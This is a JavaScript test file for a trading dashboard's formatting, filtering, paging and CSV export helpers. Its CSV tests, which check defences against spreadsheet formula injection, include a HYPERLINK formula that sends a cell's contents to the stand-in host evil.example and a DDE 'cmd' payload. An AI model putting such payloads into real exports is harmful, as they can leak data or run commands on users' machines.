// The dashboard's formatting and table helpers, as tables of inputs and outputs.
// Run with TZ=UTC (tests/web/test_page_units.py does) so local times are predictable.
import { test } from "node:test";
import assert from "node:assert/strict";

import * as f from "../../../src/trade_analysis/web/js/format.js";

const MINUS = "\u2212";

test("money keeps the currency's two decimals, groups thousands, keeps read decimals", () => {
  for (const [value, text] of [
    [1234.5, "1,234.50"], [0, "0.00"], [189.23, "189.23"], [0.12345, "0.12345"],
    [-3, `${MINUS}3.00`], [1000000, "1,000,000.00"], [null, ""], [undefined, ""], ["x", ""],
    [-0.001, "0.001".replace(/^/, MINUS)],
  ]) assert.equal(f.money(value), text, `money(${value})`);
});

test("gains and losses always carry a sign, so colour is never the only cue", () => {
  for (const [value, text] of [
    [4.25, "+4.25"], [-4.25, `${MINUS}4.25`], [0, "0.00"], [0.001, "0.00"], [1234.5, "+1,234.50"],
  ]) assert.equal(f.signedMoney(value), text);
  assert.equal(f.signedPercent(50), "+50.00%");
  assert.equal(f.signedPercent(-0.5), `${MINUS}0.50%`);
  assert.deepEqual([f.pnlClass(1), f.pnlClass(-1), f.pnlClass(0), f.pnlClass(null)], ["gain", "loss", "even", "even"]);
  assert.equal(f.trendLabel("up"), "\u25B2 up");
  assert.equal(f.trendLabel("down"), "\u25BC down");
});

test("durations read like a clock, times always carry the date", () => {
  for (const [seconds, text] of [
    [0, "0s"], [45.9, "45s"], [725, "12m 05s"], [3725, "1h 02m"], [2 * 86400 + 4 * 3600 + 9, "2d 4h"], [null, ""], [-5, "0s"],
  ]) assert.equal(f.duration(seconds), text);
  assert.equal(f.dateTime("2026-03-02T15:00:05Z"), "2026-03-02 15:00:05");
  assert.equal(f.dateTime(""), "");
  assert.equal(f.dateTime("not a time"), "");
});

test("a ticker with no closed trade has no win rate, not 0%", () => {
  assert.equal(f.winRate(0, 0), "");
  assert.equal(f.winRate(0, 2), "0%");
  assert.equal(f.winRate(2, 1), "67%");
});

test("bots are named by name or title, never by a raw window id", () => {
  assert.equal(f.botName("4194311", { name: "AAPL 189.23 - Robinhood" }, null), "AAPL 189.23 - Robinhood");
  assert.equal(f.botName("4194311", null, { target_window: { title: "TSLA chart" } }), "TSLA chart");
  assert.equal(f.botName("4194311", null, null), "untitled window");
  assert.equal(f.botName("desk-2", null, null), "desk-2");
});

test("worker states in words: window gone and lagging stand out", () => {
  assert.equal(f.workerState({ state: "window_gone" }), "window gone");
  assert.equal(f.workerState({ state: "running", interval: 1, max_lag_seconds: 3 }), "lagging");
  assert.equal(f.workerState({ state: "running", interval: 1, max_lag_seconds: 0.2 }), "running");
  assert.equal(f.workerState(null), "not captured");
});

const TRADES = [
  { id: 1, bot: "w1", ticker: "AAPL", direction: "buy", price: 100, profit: null, ts: "2026-03-01T10:00:00Z" },
  { id: 2, bot: "w1", ticker: "AAPL", direction: "sell", price: 104.25, profit: 4.25, ts: "2026-03-02T10:00:00Z" },
  { id: 3, bot: "w2", ticker: "TSLA", direction: "buy", price: 250, profit: null, ts: "2026-03-02T11:00:00Z" },
  { id: 4, bot: "w2", ticker: "TSLA", direction: "sell", price: 240, profit: -10, ts: "2026-03-03T09:00:00Z" },
];

test("trades filter by bot, ticker, side and an inclusive date range", () => {
  const ids = (filter) => f.filterTrades(TRADES, filter).map((t) => t.id);
  assert.deepEqual(ids({}), [1, 2, 3, 4]);
  assert.deepEqual(ids({ bot: "w2" }), [3, 4]);
  assert.deepEqual(ids({ ticker: " aapl " }), [1, 2]);
  assert.deepEqual(ids({ side: "sell" }), [2, 4]);
  assert.deepEqual(ids({ from: "2026-03-02", to: "2026-03-02" }), [2, 3]);
  assert.deepEqual(ids({ bot: "w1", side: "sell", from: "2026-03-03" }), []);
});

test("pages clamp to what exists", () => {
  const rows = Array.from({ length: 120 }, (_, i) => i);
  assert.deepEqual(f.pageOf(rows, 0, 50).rows.length, 50);
  assert.deepEqual([f.pageOf(rows, 2, 50).rows.length, f.pageOf(rows, 2, 50).pages], [20, 3]);
  assert.equal(f.pageOf(rows, 9, 50).page, 2);
  assert.deepEqual(f.pageOf([], 0, 50), { rows: [], page: 0, pages: 1 });
});

test("CSV quotes what needs it and defuses formulas", () => {
  const csv = f.toCsv(["a", "b"], [{ a: 'say "hi"', b: "x,y" }, { a: "=SUM(A1)", b: null }]);
  assert.equal(csv, 'a,b\r\n"say ""hi""","x,y"\r\n\'=SUM(A1),\r\n');
});

test("CSV text a spreadsheet would run gets a leading quote; numbers stay numbers", () => {
  for (const [value, cell] of [
    ['=HYPERLINK("http://evil.example/?x="&B2,"open")', '"\'=HYPERLINK(""http://evil.example/?x=""&B2,""open"")"'],
    ["+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"],
    ["-2+3", "'-2+3"], ["@SUM(A1)", "'@SUM(A1)"], ["\tx", "'\tx"], ["\rx", "\"'\rx\""],
    [-3, "-3"], [-3.5, "-3.5"], ["AAPL", "AAPL"], ["a=b", "a=b"], [null, ""],
  ]) assert.equal(f.toCsv(["c"], [{ c: value }]), `c\r\n${cell}\r\n`, JSON.stringify(value));
});

test("the equity curve adds realised profit after each sell, from zero", () => {
  const [xs, ys] = f.equitySeries(TRADES);
  assert.deepEqual(ys, [0, 4.25, -5.75]);
  assert.equal(xs[0], Date.parse("2026-03-01T10:00:00Z") / 1000);
  assert.deepEqual(xs.slice(1), [Date.parse("2026-03-02T10:00:00Z") / 1000, Date.parse("2026-03-03T09:00:00Z") / 1000]);
  assert.deepEqual(f.equitySeries([]), [[], []]);
  assert.deepEqual(f.equitySeries(TRADES.slice(0, 1)), [[], []]);
  // Two sells in one second are one point (uPlot needs increasing x).
  const same = [
    { id: 1, direction: "sell", profit: 1, ts: "2026-03-02T10:00:00Z" },
    { id: 2, direction: "sell", profit: 2, ts: "2026-03-02T10:00:00Z" },
  ];
  assert.deepEqual(f.equitySeries(same)[1], [0, 3]);
  assert.equal(new Set(f.equitySeries(same)[0]).size, 2);
});

test("a dragged rectangle becomes the crop cut from each edge, and back", () => {
  assert.deepEqual(f.cropFromDrag(10, 20, 90, 70, 100, 100), { left: 0.1, right: 0.1, top: 0.2, bottom: 0.3 });
  // Dragged right-to-left and bottom-to-top, and past the edges: the same rectangle, clamped.
  assert.deepEqual(f.cropFromDrag(120, 70, 10, -5, 100, 100), { left: 0.1, right: 0, top: 0, bottom: 0.3 });
  assert.deepEqual(f.cropRect({ left: 0.1, right: 0.2, top: 0, bottom: 0.5 }, 200, 100), { x: 20, y: 0, width: 140, height: 50 });
  assert.deepEqual(f.cropRect(null, 200, 100), { x: 0, y: 0, width: 200, height: 100 });
});

test("4xx details become messages next to the fields they name", () => {
  const detail = [
    { loc: ["body", "rules", "stop_loss"], msg: "Input should be greater than 0" },
    { loc: ["body", "price"], msg: "Value error, price 'x' is not an amount" },
  ];
  assert.deepEqual(f.fieldErrors(detail), { stop_loss: "Input should be greater than 0", price: "price 'x' is not an amount" });
  assert.deepEqual(f.fieldErrors("AAPL is already long"), { "": "AAPL is already long" });
  assert.deepEqual(f.fieldErrors(undefined), { "": "the server refused this" });
});

test("amounts that round to zero carry no sign; midnight is hour 00", () => {
  for (const [value, text] of [[-0.004, "0.00"], [0.004, "0.00"], [-0.005, `${MINUS}0.01`], [-1e-10, "0.00"]]) {
    assert.equal(f.signedMoney(value), text, `signedMoney(${value})`);
  }
  assert.equal(f.money(-1e-10), "0.00");
  assert.equal(f.money("-1234567.891"), `${MINUS}1,234,567.891`);
  assert.equal(f.money(12.5, 0), "12.5");
  assert.equal(f.dateTime("2026-03-02T00:00:00Z"), "2026-03-02 00:00:00");
  assert.equal(f.dateTime("2026-12-31T23:59:59.900Z"), "2026-12-31 23:59:59");
});
